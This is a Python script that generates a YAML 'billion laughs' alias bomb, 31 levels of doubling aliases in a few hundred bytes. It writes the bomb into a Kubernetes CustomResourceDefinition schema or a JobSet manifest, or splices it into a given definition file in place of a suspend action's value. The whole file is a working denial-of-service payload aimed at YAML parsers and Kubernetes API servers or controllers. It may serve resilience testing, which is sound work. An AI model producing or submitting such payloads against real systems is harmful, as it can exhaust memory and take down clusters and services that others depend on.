# Writes a YAML alias bomb ("billion laughs"): each level holds two aliases of the level before,
# so the last one denotes 2^(LEVELS+1) scalars in about 40 bytes a level.
# Usage: alias_bomb.py OUT [crd | definition DEFINITION]
#   crd: the bomb inside a CustomResourceDefinition's schema
#   definition: DEFINITION with the bomb as its first suspend action's value
import sys

LEVELS = 30
lines = []
indent = ""
mode = sys.argv[2] if len(sys.argv) > 2 else "object"
if mode == "definition":
    with open(sys.argv[3]) as f:
        definition = f.read()
    old = "          value: true\n"
    assert old in definition
    head, tail = definition.split(old, 1)
    bomb = ["          value:", "            l0: &a0 [lol, lol]"]
    bomb += [f"            l{i}: &a{i} [*a{i-1}, *a{i-1}]" for i in range(1, LEVELS + 1)]
    with open(sys.argv[1], "w") as out:
        out.write(head + "\n".join(bomb) + "\n" + tail)
    sys.exit(0)
if mode == "crd":
    lines += [
        "apiVersion: apiextensions.k8s.io/v1",
        "kind: CustomResourceDefinition",
        "metadata: {name: bombs.example.com}",
        "spec:",
        "  group: example.com",
        "  names: {kind: Bomb, plural: bombs}",
        "  scope: Namespaced",
        "  versions:",
        "  - name: v1",
        "    served: true",
        "    storage: true",
        "    schema:",
        "      openAPIV3Schema:",
        "        type: object",
        "        x-laughs:",
    ]
    indent = "          "
else:
    lines += ["apiVersion: jobset.x-k8s.io/v1alpha2", "kind: JobSet", "metadata: {name: bomb}",
              "laughs:"]
    indent = "  "
lines.append(indent + "l0: &a0 [lol, lol]")
for i in range(1, LEVELS + 1):
    lines.append(f"{indent}l{i}: &a{i} [*a{i-1}, *a{i-1}]")
with open(sys.argv[1], "w") as out:
    out.write("\n".join(lines) + "\n")
